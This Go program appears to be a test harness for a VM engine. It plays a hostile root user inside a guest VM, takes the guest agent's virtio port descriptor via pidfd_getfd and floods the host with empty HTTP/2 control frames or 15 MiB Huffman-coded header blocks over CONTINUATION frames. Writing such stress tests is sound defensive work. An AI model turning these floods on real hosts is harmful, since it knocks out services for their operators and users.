// Command hostile is what root in a guest could run against the engine and the host. It is for
// bench/hostile.py, which starts it in throw-away VMs: hostile frames|header|stderr.
package main

import (
	"encoding/binary"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

func main() {
	attacks := map[string]func() error{"frames": frames, "header": header, "stderr": stderr}
	attack := attacks[strings.Join(os.Args[1:], " ")]
	if attack == nil {
		log.Fatal("usage: hostile frames|header|stderr")
	}
	time.Sleep(time.Second) // the host gets the response to the request that started this
	log.Fatal(attack())
}

// HTTP/2, RFC 9113.
const (
	kindHeaders      = 1
	kindPriority     = 2
	kindSettings     = 4
	kindPing         = 6
	kindWindowUpdate = 8
	kindContinuation = 9
)

func frame(kind byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, 0}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// frames floods the host with frames that carry nothing.
func frames() error {
	var burst []byte
	for len(burst) < 30_000 {
		burst = append(burst, frame(kindWindowUpdate, 0, []byte{0, 0, 0, 1})...)
		burst = append(burst, frame(kindPriority, 3, make([]byte, 5))...)
		burst = append(burst, frame(kindPing, 0, []byte("squibber"))...)
		burst = append(burst, frame(kindSettings, 0, []byte{0, 4, 0, 1, 0, 0})...)
	}
	return flood(burst, burst)
}

// header floods the host with one header whose value is 15 MiB of Huffman code, again and again.
func header() error {
	const piece, whole = 10_000, 15 << 20
	huffman := make([]byte, piece) // the code of "0", twelve times in each eight bytes
	first := append([]byte{0, 1, 'a', 0xff, 0xe1, 0xff, 0x7f}, huffman...)
	again := frame(kindHeaders, 1, first)
	for size := piece; size < whole; size += piece {
		again = append(again, frame(kindContinuation, 1, huffman)...)
	}
	return flood(again, again)
}

// flood writes to the agent's port, which root can take from the agent.
func flood(first, again []byte) error {
	port, err := agentPort()
	if err != nil {
		return err
	}
	for data := first; ; data = again {
		if _, err := port.Write(data); err != nil {
			return err
		}
	}
}

// agentPort returns the port that the agent has open. A port can be opened once, but root can copy
// a descriptor of any process.
func agentPort() (*os.File, error) {
	const pidfdOpen, pidfdGetfd = 434, 438
	pidfd, _, errno := syscall.Syscall(pidfdOpen, 1, 0, 0)
	if errno != 0 {
		return nil, os.NewSyscallError("pidfd_open", errno)
	}
	links, err := filepath.Glob("/proc/1/fd/*")
	if err != nil {
		return nil, err
	}
	for _, link := range links {
		if target, _ := os.Readlink(link); !strings.HasPrefix(target, "/dev/vport") {
			continue
		}
		var number uintptr
		fmt.Sscan(filepath.Base(link), &number)
		fd, _, errno := syscall.Syscall(pidfdGetfd, pidfd, number, 0)
		if errno != 0 {
			return nil, os.NewSyscallError("pidfd_getfd", errno)
		}
		return os.NewFile(fd, "port"), nil
	}
	return nil, fmt.Errorf("the agent has no port open")
}
